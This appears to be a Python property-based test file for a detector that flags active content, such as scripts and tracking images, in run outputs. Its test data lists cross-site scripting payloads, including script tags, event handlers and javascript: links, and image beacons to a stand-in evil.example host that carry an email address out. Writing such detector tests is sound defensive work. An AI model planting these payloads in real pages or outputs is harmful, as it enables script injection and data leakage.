"""``runs.markup``: active content a viewer of a record would run or fetch, wherever it
sits in an output; prose, links and emphasis are not."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from workerctl.runs.markup import active_content

PROSE = st.text(st.sampled_from("abcdefgh T-1042 .,;()*_#-\n0123456789"), max_size=80)
ACTIVE = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "<SCRIPT src=//evil.example/x.js></SCRIPT>",
        "<iframe src=https://evil.example>",
        '<img src="x" onerror="fetch(1)">',
        "<svg onload=alert(1)>",
        "[here](javascript:alert(document.domain))",
        "[here]( JavaScript:alert(1))",
        '<a href="javascript:void(0)">x</a>',
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![p](https://evil.example/p.png?d=ann%40example.org)",
        "![p](//evil.example/p.gif#ann)",
        '<img src="https://evil.example/t.png">',
    ]
)
HARMLESS = st.sampled_from(
    [
        "[the wiki](https://wiki.example/glossary?v=2)",
        "![logo](https://example.org/logo.png)",
        "**bold** and _italic_",
        "<b>bold</b>",
        "3 < 4 and 5 > 2",
        "data: none yet",
        "see https://example.org/a?b=1",
    ]
)


@given(PROSE, ACTIVE, PROSE)
def test_active_content_anywhere_is_found(before, active, after):
    assert active_content(f"{before} {active} {after}")


@given(PROSE, HARMLESS, PROSE)
def test_prose_links_and_emphasis_are_not_active(before, harmless, after):
    assert active_content(f"{before} {harmless} {after}") == []
